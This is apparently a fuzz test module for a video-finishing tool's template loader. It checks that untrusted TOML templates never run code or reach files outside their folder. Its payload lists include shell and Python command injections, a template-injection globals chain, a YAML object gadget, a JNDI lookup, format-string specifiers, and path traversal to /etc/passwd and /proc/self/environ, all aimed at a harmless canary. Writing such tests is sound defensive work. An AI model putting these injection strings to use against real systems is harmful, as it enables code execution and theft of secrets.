"""G14: a stranger's template is a setting or a sentence with its line, never code."""

import json
import random
import re
from pathlib import Path

from finishkit.errors import FinishError
from finishkit.settings import FacesSettings
from finishkit.stages.lut import build_lut, write_cube
from finishkit.template import SECTIONS, Draft, Look, load_look, load_template
from tests.torture.children import CANARY, run_cases
from tests.torture.outcome import Outcome, Say

PAYLOADS = (
    f"x = 1; import os; os.system('touch {CANARY}')",
    f"__import__('os').system('touch {CANARY}')",
    f"$(touch {CANARY})", f"`touch {CANARY}`", f"| touch {CANARY}", f"; touch {CANARY} ;",
    f"{{{{ self.__init__.__globals__.os.system('touch {CANARY}') }}}}",
    f"!!python/object/apply:os.system ['touch {CANARY}']",
    "${jndi:ldap://192.0.2.1/x}", "%s%s%s%n", "../" * 12 + "etc/passwd", "/etc/passwd",
    "file:///etc/passwd", "http://192.0.2.1/a.cube", "\\\\192.0.2.1\\a", "con", "-rf", "~root",
    "a\u202eb", "\ufeffx", "é" * 50, "\U0001f600", "x" * 900, "", " ", "\t",
)  # fmt: skip
NUMBERS = ("nan", "inf", "-inf", "+nan", "1e999", "-0.0", "1e-400", "9" * 400, "0x" + "f" * 400,
           "0b1", "1_000", "-1", "0", "0.5", "1", "1.0", "2", "1e5", "0.1", "0.30")  # fmt: skip
SHAPES = ("[]", "{}", "[1, 2]", "{ a = 1 }", "true", "false", "1979-05-27", "07:32:00",
          "1979-05-27T07:32:00Z", "[[1]]", "{ a = { b = { c = 1 } } }", '"""a\nb"""',
          "'''\n'''")  # fmt: skip
LEAVES = tuple(
    f"{section}.{name}"
    for section in SECTIONS
    for name in type(Look.model_fields[section].default).model_fields
)
BLOBS = (
    b"\xef\xbb\xbf", b"\xff\xfe", b"\x00", b"\x80\x04\x95", b"\r", b"\x1b[2J", b"'''", b'"""', b"[",
    b"]]", b"=", b".", b"#", b"\n\n", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\\u0000", b"\\ud800",
    b"[lock]\n", b"schema_version = 2\n", b"[faces]\n", b"9" * 50,
)  # fmt: skip
_DEEP = 3000
_HERE = (b'"~/x.cube"', b'"http://192.0.2.1/x.cube"')
"""Look like places elsewhere, and are files of the template's folder."""


def _text(rng: random.Random) -> str:
    quoted = rng.choice(PAYLOADS)
    return rng.choice((json.dumps(quoted), "'" + quoted.replace("'", "") + "'"))


def _value(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.4:
        return rng.choice(NUMBERS)
    return _text(rng) if kind < 0.8 else rng.choice(SHAPES)


def _name(rng: random.Random) -> str:
    leaf = rng.choice(LEAVES).partition(".")[2]
    kind = rng.random()
    if kind < 0.6:
        return leaf
    if kind < 0.7:
        at = rng.randrange(len(leaf))
        return leaf[:at] + leaf[at + 1 :] or "x"
    if kind < 0.8:
        return ".".join([leaf] * rng.choice((2, 3, 8, 60, 200)))
    return _text(rng)


def grammar(rng: random.Random) -> bytes:
    """Write a file of the schema's own words, mostly with wrong ones among them."""
    if rng.random() < 0.25:
        named = sorted(rng.sample([x for x in LEAVES if x.endswith(".strength")], 4))
        return "\n".join(f"{name} = {rng.random():.3f}" for name in named).encode()
    lines = [f"genre = {rng.choice((chr(34) + 'romance' + chr(34), _value(rng)))}"]
    if rng.random() < 0.2:
        lines.append(f"schema_version = {_value(rng)}")
    if rng.random() < 0.2:
        lines.append(f"hero = {_value(rng)}")
    for _ in range(rng.randrange(1, 5)):
        section = rng.choice((*SECTIONS, *SECTIONS, "lock", "nothing", _text(rng)))
        lines.append(rng.choice((f"[{section}]", f"[{section}]", f"[[{section}]]")))
        for _ in range(rng.randrange(4)):
            own = [x.partition(".")[2] for x in LEAVES if x.startswith(f"{section}.")]
            name = rng.choice(own) if own and rng.random() < 0.7 else _name(rng)
            lines.append(f"{name} = {_value(rng)}")
    if rng.random() < 0.1:
        lines.append(rng.choice((
            "a = " + "[" * _DEEP, "[[" * _DEEP, "b = " + "{a=" * 400, "\n[" * _DEEP,
            ".".join("a" * 700) + " = 1", "\n".join(f"k{i} = 1" for i in range(4000)),
            "x = '" + "y" * 70_000 + "'", "\n" * 70_000, "a" * 1990 + " = 1",
        )))  # fmt: skip
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def mutated(rng: random.Random, whole: bytes) -> bytes:
    """Break the bytes of a good file."""
    data = bytearray(whole)
    for _ in range(rng.choice((1, 1, 2, 5, 30))):
        at = rng.randrange(len(data) + 1)
        kind = rng.randrange(6)
        if kind == 0 and at < len(data):
            data[at] ^= 1 << rng.randrange(8)
        elif kind == 1:
            data[at:at] = rng.choice(BLOBS)
        elif kind == 2:
            del data[at : at + rng.randrange(1, 60)]
        elif kind == 3:
            data[at:at] = data[max(0, at - rng.randrange(1, 200)) : at]
        elif kind == 4:
            del data[at:]
        else:
            lines = bytes(data).split(b"\n")
            lines[rng.randrange(len(lines))] = grammar(rng).split(b"\n")[-1][:1990]
            data = bytearray(b"\n".join(lines))
    return bytes(data)


def with_lut(rng: random.Random, folder: Path) -> bytes:
    """Name a LUT that lies elsewhere: by its path, through a link, through a link's folder."""
    outside = folder.parent / "outside"
    (folder / "link.cube").symlink_to(outside / "secret.cube")
    (folder / "inner").symlink_to(outside)
    (folder / "ring").symlink_to("ring")
    name = rng.choice((
        str(outside / "secret.cube"), "../outside/secret.cube", "inner/secret.cube", "link.cube",
        "/etc/passwd", "./../outside/secret.cube", "inner/../../outside/secret.cube", "ring",
        "/dev/zero", "/proc/self/environ", "..", "~/x.cube", "http://192.0.2.1/x.cube",
    ))  # fmt: skip
    which = rng.choice(("pre_lut", "look_lut"))
    return f"genre = 'x'\n[grade]\n{which} = {json.dumps(name)}\n".encode()


def warm_up(folder: Path) -> None:
    (folder / "outside").mkdir(exist_ok=True)
    write_cube(folder / "outside" / "secret.cube", build_lut(lambda nodes: nodes, 2))
    Draft().lock().save(folder / "outside" / "good.toml")


def case(seed: int, index: int, folder: Path) -> str:
    rng = random.Random(f"{seed}:{index}")
    good = (folder.parent / "outside" / "good.toml").read_bytes()
    kind = ("grammar", "grammar", "bytes", "sealed", "lut")[index % 5]
    if kind == "lut":
        data = with_lut(rng, folder)
    elif kind == "grammar":
        data = grammar(rng)
    elif kind == "bytes":
        data = mutated(rng, grammar(rng))
    else:
        data = mutated(rng, good)
    path = folder / "t.toml"
    path.write_bytes(data)
    verdicts = [_load(load, path) for load in (load_look, load_template)]
    broken = next((v for v in verdicts if v not in ("read", "refused")), "")
    if kind == "sealed" and verdicts[1] == "read":
        locked = load_template(folder.parent / "outside" / "good.toml")
        same = load_template(path).sha256 == locked.sha256
        broken = broken or ("" if same else "an edited template passed for the locked one")
    if kind == "lut" and verdicts[0] == "read" and not any(name in data for name in _HERE):
        broken = broken or f"a LUT outside was taken: {data!r}"
    return f"{kind} {verdicts[0]}" + (f": {broken}" if broken else "")


def _load(load: object, path: Path) -> str:
    assert callable(load)
    try:
        look = load(path)
    except FinishError as error:
        return _judged(error, path)
    assert isinstance(look.faces, FacesSettings)
    # What came through is exactly what the schema allows, and can be written again.
    assert Look.model_validate(look.model_dump(include=set(Look.model_fields))) is not None
    json.dumps(look.model_dump(mode="json"), allow_nan=False)
    return "read"


def _judged(error: FinishError, path: Path) -> str:
    said = str(error)
    if error.code in ("not_locked", "edited_after_lock", "lut_missing", "lut_changed"):
        return "refused"
    if any(not c.isprintable() for c in said.replace("\n", "")):
        return f"control characters in the message: {said!r}"
    if len(said) > 9000:
        return f"a message of {len(said)} characters"
    if error.code == "template_too_large" and path.stat().st_size > 64 * 1024:
        return "refused"
    lines = len(path.read_bytes().splitlines()) + 1
    numbers = [int(n) for n in re.findall(r", line (\d+)", said)]
    if error.code not in ("bad_template", "template_too_large") or not numbers:
        return f"no line in: {said!r}"
    return "refused" if max(numbers) <= lines else f"line {max(numbers)} of {lines}: {said!r}"


def run(count: int, seed: int, folder: Path, say: Say) -> Outcome:
    tally = run_cases("templates", count, seed, folder, limit_s=30, most_s=1, most_mb=100, say=say)
    return Outcome(
        suite="templates", promises=("G14",), trials=tally.trials, failures=tuple(tally.failures),
        figures={
            "kinds": dict(sorted(tally.kinds.items())),
            "slowest_s": round(tally.slowest_s, 3), "largest_mb": round(tally.largest_mb, 1),
        },
    )  # fmt: skip
